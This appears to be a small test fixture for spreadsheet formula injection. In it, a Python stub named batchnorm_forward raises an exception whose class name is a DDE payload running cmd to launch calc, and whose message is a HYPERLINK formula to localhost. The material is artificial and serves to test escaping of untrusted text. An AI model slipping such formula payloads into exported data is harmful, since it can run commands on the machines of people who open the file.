FAMILY = "text for people"
ABOUT = "Texts that a table program would run as formulas."
MOST = 0

# %% batchnorm_forward
def batchnorm_forward(x, gamma, beta, bn_param):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})('=HYPERLINK("http://127.0.0.1","50")')
